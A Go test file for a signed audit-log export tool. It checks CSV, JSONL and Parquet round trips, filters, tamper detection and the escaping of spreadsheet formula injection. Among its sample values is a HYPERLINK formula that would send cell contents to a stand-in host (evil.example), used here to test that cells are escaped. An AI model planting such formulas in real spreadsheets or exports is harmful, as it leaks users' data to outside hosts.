package export_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/revoked-dev/revoked/consumer/audit/memstore"
	"github.com/revoked-dev/revoked/consumer/export"
	"github.com/revoked-dev/revoked/schemas"
)

var base = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

// formats are the data file formats every format-parametrized test covers.
var formats = []export.Format{export.CSV, export.JSONL, export.Parquet}

// tricky are free-text values that CSV and spreadsheets treat specially.
var tricky = []string{
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
	"+1+2", "-2+3", "@SUM(A1:A9)", "\tleading tab", "\rleading cr",
	"'already quoted", "''two quotes", "plain, with comma", "quote \" inside",
	"multi\nline\r\nvalue", "ünïcødé ✓", "", "-", "'",
}

// makeRows builds n hash-chained rows spread over chains, every field set.
func makeRows(n, chains int) []schemas.AuditRow {
	rows := make([]schemas.AuditRow, 0, n)
	prev := make([]string, chains)
	seq := make([]uint64, chains)
	steps := schemas.Steps
	for i := range n {
		c := i % chains
		seq[c]++
		t := base.Add(time.Duration(i) * 1500 * time.Millisecond).Add(time.Duration(i%1000) * time.Millisecond)
		txt := tricky[i%len(tricky)]
		r := schemas.AuditRow{
			Chain:             fmt.Sprintf("consumer-%d", c),
			Seq:               seq[c],
			Time:              t,
			CommandID:         fmt.Sprintf("cmd-%d", i),
			Step:              steps[i%len(steps)],
			Detail:            txt,
			Issuer:            "detector-" + txt,
			Actor:             fmt.Sprintf("rule:%d", i%7),
			Approver:          tricky[(i+3)%len(tricky)],
			TargetKind:        schemas.TargetUser,
			UserID:            fmt.Sprintf("user-%d", i%13),
			TokenID:           fmt.Sprintf("tok-%d", i),
			SessionID:         fmt.Sprintf("sess-%d", i),
			ClientID:          "=client",
			IncludeDownscoped: i%2 == 0,
			Action:            schemas.ActionRevoke,
			Mode:              schemas.ModeEnforce,
			RuleID:            fmt.Sprintf("rule-%d", i%5),
			RuleVersion:       uint32(i%3 + 1),
			Severity:          schemas.SeverityHigh,
			Summary:           tricky[(i+5)%len(tricky)],
			Evidence:          []string{"ev-" + txt, "@ev2"},
			FirstEventTime:    t.Add(-time.Minute),
			LastEventTime:     t.Add(-time.Second),
			DetectedAt:        t.Add(-500 * time.Millisecond),
			IssuedAt:          t.Add(-400 * time.Millisecond),
			ExpiresAt:         t.Add(time.Hour),
			IdPStatus:         200,
			IdPResponse:       "-ok " + txt,
			TokensRevoked:     uint32(i % 4),
			Proof:             "proof-" + fmt.Sprint(i),
			Attempts:          uint32(i%3 + 1),
			DetectLatencyMs:   int64(i%100) - 50,
			RevokeLatencyMs:   int64(i % 1000),
			SourceTopic:       "revoke.commands",
			SourcePartition:   int32(i % 6),
			SourceOffset:      int64(i),
			PrevHash:          prev[c],
		}
		if i%11 == 0 {
			r.Evidence = nil
			r.ExpiresAt = time.Time{}
			r.Approver = ""
		}
		r.RowID = schemas.AuditRowID(r.CommandID, r.Step, r.SourceTopic, r.SourcePartition, r.SourceOffset)
		r.Hash = r.ComputeHash()
		prev[c] = r.Hash
		rows = append(rows, r)
	}
	return rows
}

func newStore(t testing.TB, rows []schemas.AuditRow) *memstore.Store {
	t.Helper()
	s := memstore.New()
	for i := 0; i < len(rows); i += 50000 {
		if err := s.Append(context.Background(), rows[i:min(i+50000, len(rows))]); err != nil {
			t.Fatal(err)
		}
	}
	return s
}

func newSigner(t testing.TB) (*schemas.Signer, *schemas.Keyring) {
	t.Helper()
	priv, err := schemas.GenerateSigningKey()
	if err != nil {
		t.Fatal(err)
	}
	s := schemas.NewSigner(priv)
	return s, schemas.NewKeyring(s.Public())
}

// expected is rows in the export's order (chain, then Seq) filtered by keep.
func expected(rows []schemas.AuditRow, keep func(*schemas.AuditRow) bool) []schemas.AuditRow {
	byChain := map[string][]schemas.AuditRow{}
	var chains []string
	seen := map[string]bool{}
	for _, r := range rows {
		if !seen[r.Chain] {
			seen[r.Chain] = true
			chains = append(chains, r.Chain)
		}
		if keep == nil || keep(&r) {
			byChain[r.Chain] = append(byChain[r.Chain], r)
		}
	}
	// the store lists chains sorted by name
	var out []schemas.AuditRow
	sorted := slices.Sorted(slices.Values(chains))
	for _, c := range sorted {
		out = append(out, byChain[c]...)
	}
	return out
}

func readBack(t testing.TB, dir string) []schemas.AuditRow {
	t.Helper()
	var got []schemas.AuditRow
	if _, err := export.ReadDir(dir, func(r schemas.AuditRow) error {
		got = append(got, r)
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	return got
}

// sameRow says a and b are the same row: field for field (reflect.DeepEqual,
// so times must come back in UTC and Evidence nil when empty), and in their
// JSON encoding.
func sameRow(a, b *schemas.AuditRow) bool {
	ja, _ := json.Marshal(a)
	jb, _ := json.Marshal(b)
	return bytes.Equal(ja, jb) && a.Time.Equal(b.Time) && reflect.DeepEqual(a, b)
}

func compareRows(t testing.TB, got, want []schemas.AuditRow) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("read back %d rows, want %d", len(got), len(want))
	}
	for i := range want {
		if !sameRow(&got[i], &want[i]) {
			g, _ := json.Marshal(got[i])
			w, _ := json.Marshal(want[i])
			t.Fatalf("row %d differs:\n got %s\nwant %s", i, g, w)
		}
		if got[i].ComputeHash() != want[i].Hash {
			t.Fatalf("row %d: hash does not recompute after the round trip", i)
		}
	}
}

func doExport(t testing.TB, store *memstore.Store, format export.Format, signer *schemas.Signer, mod func(*export.Options)) (string, *export.Manifest) {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "export")
	opts := export.Options{Dir: dir, Format: format, Signer: signer, ToolVersion: "test", PageRows: 7}
	if mod != nil {
		mod(&opts)
	}
	m, err := export.Export(context.Background(), store, opts)
	if err != nil {
		t.Fatal(err)
	}
	return dir, m
}

func TestRoundTrip(t *testing.T) {
	rows := makeRows(200, 3)
	store := newStore(t, rows)
	signer, keyring := newSigner(t)
	for _, format := range formats {
		t.Run(string(format), func(t *testing.T) {
			dir, m := doExport(t, store, format, signer, nil)
			want := expected(rows, nil)
			if m.Rows != int64(len(want)) {
				t.Fatalf("manifest rows %d, want %d", m.Rows, len(want))
			}
			compareRows(t, readBack(t, dir), want)
			res, err := export.Verify(dir, keyring)
			if err != nil {
				t.Fatal(err)
			}
			if !res.Signed || res.Rows != int64(len(want)) {
				t.Fatalf("verify result %+v", res)
			}
			if len(m.Chains) != 3 {
				t.Fatalf("manifest chains %+v", m.Chains)
			}
			for _, h := range m.Chains {
				want := expected(rows, func(r *schemas.AuditRow) bool { return r.Chain == h.Chain })
				last := want[len(want)-1]
				if h.LastSeq != last.Seq || h.Hash != last.Hash || h.Rows != int64(len(want)) {
					t.Fatalf("chain head %+v, want seq %d hash %s rows %d", h, last.Seq, last.Hash, len(want))
				}
			}
			entries, err := os.ReadDir(dir)
			if err != nil {
				t.Fatal(err)
			}
			var names []string
			for _, e := range entries {
				names = append(names, e.Name())
			}
			if strings.Join(names, " ") != strings.Join([]string{"SHA256SUMS", "SHA256SUMS.sig", "manifest.json", format.DataFile()}, " ") {
				t.Fatalf("files %v", names)
			}
			sha256sumCheck(t, dir)
		})
	}
}

// sha256sumCheck runs the real sha256sum -c in dir.
func sha256sumCheck(t *testing.T, dir string) {
	t.Helper()
	if _, err := exec.LookPath("sha256sum"); err != nil {
		t.Skip("sha256sum not installed")
	}
	cmd := exec.Command("sha256sum", "-c", "--strict", export.SumsFile)
	cmd.Dir = dir
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("sha256sum -c: %v\n%s", err, out)
	}
	if strings.Count(string(out), ": OK") != 2 {
		t.Fatalf("sha256sum -c output:\n%s", out)
	}
}

func TestFilters(t *testing.T) {
	rows := makeRows(300, 2)
	store := newStore(t, rows)
	signer, keyring := newSigner(t)
	from := base.Add(90 * time.Second)
	to := base.Add(300 * time.Second)
	dir, m := doExport(t, store, export.JSONL, signer, func(o *export.Options) {
		o.From, o.To, o.UserID, o.RuleID = from, to, "user-3", "rule-1"
	})
	want := expected(rows, func(r *schemas.AuditRow) bool {
		ts := r.Time.Truncate(time.Second)
		return !ts.Before(from) && ts.Before(to) && r.UserID == "user-3" && r.RuleID == "rule-1"
	})
	if len(want) == 0 {
		t.Fatal("filter test selects nothing")
	}
	compareRows(t, readBack(t, dir), want)
	if m.From == nil || !m.From.Equal(from) || m.To == nil || !m.To.Equal(to) || m.Filters.UserID != "user-3" || m.Filters.RuleID != "rule-1" {
		t.Fatalf("manifest %+v", m)
	}
	if _, err := export.Verify(dir, keyring); err != nil {
		t.Fatal(err)
	}
}

func TestEmptyExportVerifies(t *testing.T) {
	store := newStore(t, makeRows(10, 1))
	signer, keyring := newSigner(t)
	dir, m := doExport(t, store, export.CSV, signer, func(o *export.Options) { o.UserID = "nobody" })
	if m.Rows != 0 {
		t.Fatalf("rows %d", m.Rows)
	}
	if _, err := export.Verify(dir, keyring); err != nil {
		t.Fatal(err)
	}
}

func TestExportRefusesToOverwrite(t *testing.T) {
	store := newStore(t, makeRows(10, 1))
	signer, _ := newSigner(t)
	dir, _ := doExport(t, store, export.CSV, signer, nil)
	_, err := export.Export(context.Background(), store, export.Options{Dir: dir, Format: export.CSV, Signer: signer})
	if err == nil {
		t.Fatal("second export into the same directory succeeded")
	}
}

func flipByte(t *testing.T, path string, at func(b []byte) int) {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	i := at(b)
	b[i] ^= 0x01
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}
}

func rewriteSums(t *testing.T, dir string, dataFile string) []byte {
	t.Helper()
	var sums []export.Sum
	for _, f := range []string{dataFile, export.ManifestFile} {
		b, err := os.ReadFile(filepath.Join(dir, f))
		if err != nil {
			t.Fatal(err)
		}
		h := sha256.Sum256(b)
		sums = append(sums, export.Sum{Hex: hex.EncodeToString(h[:]), File: f})
	}
	out := []byte(export.FormatSums(sums))
	if err := os.WriteFile(filepath.Join(dir, export.SumsFile), out, 0o644); err != nil {
		t.Fatal(err)
	}
	return out
}

func editManifest(t *testing.T, dir string, fn func(m map[string]any)) {
	t.Helper()
	p := filepath.Join(dir, export.ManifestFile)
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatal(err)
	}
	fn(m)
	b, _ = json.MarshalIndent(m, "", "  ")
	if err := os.WriteFile(p, append(b, '\n'), 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestTamperingIsCaught(t *testing.T) {
	rows := makeRows(100, 2)
	store := newStore(t, rows)
	signer, keyring := newSigner(t)
	other, _ := newSigner(t)
	for _, format := range formats {
		data := format.DataFile()
		cases := []struct {
			name    string
			tamper  func(t *testing.T, dir string)
			keyring *schemas.Keyring
			want    error
		}{
			{"data byte", func(t *testing.T, dir string) {
				flipByte(t, filepath.Join(dir, data), func(b []byte) int { return len(b) / 2 })
			}, keyring, export.ErrSums},
			{"data byte, sums recomputed", func(t *testing.T, dir string) {
				flipByte(t, filepath.Join(dir, data), func(b []byte) int {
					if i := bytes.Index(b, []byte("cmd-5")); i >= 0 {
						return i + 4
					}
					return len(b) / 2 // compressed (Parquet): a byte of a page
				})
				rewriteSums(t, dir, data)
			}, keyring, export.ErrSignature},
			{"manifest", func(t *testing.T, dir string) {
				editManifest(t, dir, func(m map[string]any) { m["rows"] = 99 })
			}, keyring, export.ErrSums},
			{"manifest, sums recomputed", func(t *testing.T, dir string) {
				editManifest(t, dir, func(m map[string]any) { m["rows"] = 99 })
				rewriteSums(t, dir, data)
			}, keyring, export.ErrSignature},
			{"manifest, sums recomputed and re-signed by another key", func(t *testing.T, dir string) {
				editManifest(t, dir, func(m map[string]any) { m["rows"] = 99; m["key_id"] = other.KeyID() })
				sums := rewriteSums(t, dir, data)
				sig := mustRaw(t, other.Sign(sums))
				if err := os.WriteFile(filepath.Join(dir, export.SignatureFile), sig, 0o644); err != nil {
					t.Fatal(err)
				}
			}, keyring, export.ErrSignature},
			{"row count, signature not checked", func(t *testing.T, dir string) {
				editManifest(t, dir, func(m map[string]any) { m["rows"] = 99 })
				rewriteSums(t, dir, data)
			}, nil, export.ErrManifest},
			{"row removed, signature not checked", func(t *testing.T, dir string) {
				p := filepath.Join(dir, data)
				b, _ := os.ReadFile(p)
				var lines []string
				if format == export.JSONL {
					lines = strings.SplitAfter(string(b), "\n")
					lines = append(lines[:3], lines[4:]...)
					b = []byte(strings.Join(lines, ""))
				} else {
					var out bytes.Buffer
					n := 0
					if err := export.ReadRows(bytes.NewReader(b), format, func(r schemas.AuditRow) error {
						n++
						return nil
					}); err != nil {
						t.Fatal(err)
					}
					// drop the last record: it is the last chain's head
					var w interface {
						Write(*schemas.AuditRow) error
						Close() error
					}
					if format == export.Parquet {
						w = export.NewParquetWriter(&out)
					} else {
						w, _ = export.NewCSVWriter(&out)
					}
					i := 0
					if err := export.ReadRows(bytes.NewReader(b), format, func(r schemas.AuditRow) error {
						i++
						if i < n {
							return w.Write(&r)
						}
						return nil
					}); err != nil {
						t.Fatal(err)
					}
					if err := w.Close(); err != nil {
						t.Fatal(err)
					}
					b = out.Bytes()
				}
				if err := os.WriteFile(p, b, 0o644); err != nil {
					t.Fatal(err)
				}
				rewriteSums(t, dir, data)
			}, nil, export.ErrManifest},
			{"data truncated, signature not checked", func(t *testing.T, dir string) {
				p := filepath.Join(dir, data)
				b, err := os.ReadFile(p)
				if err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(p, b[:len(b)/2], 0o644); err != nil {
					t.Fatal(err)
				}
				rewriteSums(t, dir, data)
			}, nil, export.ErrManifest},
			{"signature byte", func(t *testing.T, dir string) {
				flipByte(t, filepath.Join(dir, export.SignatureFile), func(b []byte) int { return 10 })
			}, keyring, export.ErrSignature},
			{"signature missing", func(t *testing.T, dir string) {
				os.Remove(filepath.Join(dir, export.SignatureFile))
			}, keyring, export.ErrSignature},
			{"untrusted key", func(t *testing.T, dir string) {}, schemas.NewKeyring(other.Public()), export.ErrSignature},
			{"data file missing", func(t *testing.T, dir string) {
				os.Remove(filepath.Join(dir, data))
			}, keyring, export.ErrSums},
		}
		for _, c := range cases {
			t.Run(string(format)+"/"+c.name, func(t *testing.T) {
				dir, _ := doExport(t, store, format, signer, nil)
				if _, err := export.Verify(dir, keyring); err != nil {
					t.Fatalf("untouched export: %v", err)
				}
				c.tamper(t, dir)
				_, err := export.Verify(dir, c.keyring)
				if !errors.Is(err, c.want) {
					t.Fatalf("Verify = %v, want %v", err, c.want)
				}
				t.Log(err)
			})
		}
	}
}

func mustRaw(t *testing.T, b64 string) []byte {
	t.Helper()
	var raw []byte
	if err := json.Unmarshal([]byte(`"`+b64+`"`), &raw); err != nil {
		t.Fatal(err)
	}
	return raw
}

func TestCSVInjectionEscaped(t *testing.T) {
	for _, s := range tricky {
		e := export.EscapeCell(s)
		if s != "" && strings.ContainsRune("=+-@\t\r'", rune(s[0])) && !strings.HasPrefix(e, "'") {
			t.Errorf("EscapeCell(%q) = %q: not guarded", s, e)
		}
		if got := export.UnescapeCell(e); got != s {
			t.Errorf("UnescapeCell(EscapeCell(%q)) = %q", s, got)
		}
	}
	rows := makeRows(len(tricky)*2, 1)
	store := newStore(t, rows)
	signer, _ := newSigner(t)
	dir, _ := doExport(t, store, export.CSV, signer, nil)
	b, err := os.ReadFile(filepath.Join(dir, "rows.csv"))
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`, ",'+1+2,", ",'@SUM(A1:A9),", ",'=client,", "'\tleading tab", "'\rleading cr", "'''two quotes"} {
		if !bytes.Contains(b, []byte(want)) {
			t.Errorf("rows.csv lacks the escaped cell %q", want)
		}
	}
	// No cell may start with a dangerous character once parsed as CSV.
	for _, line := range strings.Split(string(b), "\n") {
		for _, cell := range strings.Split(line, ",") {
			cell = strings.TrimPrefix(cell, `"`)
			if cell != "" && strings.ContainsRune("=+@", rune(cell[0])) {
				t.Errorf("unescaped cell %q", cell)
			}
		}
	}
	compareRows(t, readBack(t, dir), expected(rows, nil))
}

func TestMillionRows(t *testing.T) {
	if testing.Short() {
		t.Skip("-short")
	}
	if raceEnabled {
		t.Skip("too slow with the race detector")
	}
	const n = 1_000_000
	rows := makeRows(n, 4)
	store := newStore(t, rows)
	signer, keyring := newSigner(t)
	want := expected(rows, nil)
	for _, format := range formats {
		start := time.Now()
		dir, m := doExport(t, store, format, signer, func(o *export.Options) { o.PageRows = 100_000 })
		took := time.Since(start)
		if m.Rows != n {
			t.Fatalf("%s: exported %d rows", format, m.Rows)
		}
		vstart := time.Now()
		if _, err := export.Verify(dir, keyring); err != nil {
			t.Fatal(err)
		}
		vtook := time.Since(vstart)
		i := 0
		if _, err := export.ReadDir(dir, func(r schemas.AuditRow) error {
			if !sameRow(&r, &want[i]) {
				return fmt.Errorf("row %d differs", i)
			}
			i++
			return nil
		}); err != nil {
			t.Fatal(err)
		}
		if i != n {
			t.Fatalf("%s: read back %d rows", format, i)
		}
		t.Logf("%s: %d rows exported in %v, %d bytes (%.1f MB, %.0f bytes/row); verify-export took %v",
			format, n, took.Round(time.Millisecond), m.DataBytes, float64(m.DataBytes)/1e6, float64(m.DataBytes)/n, vtook.Round(time.Millisecond))
	}
}
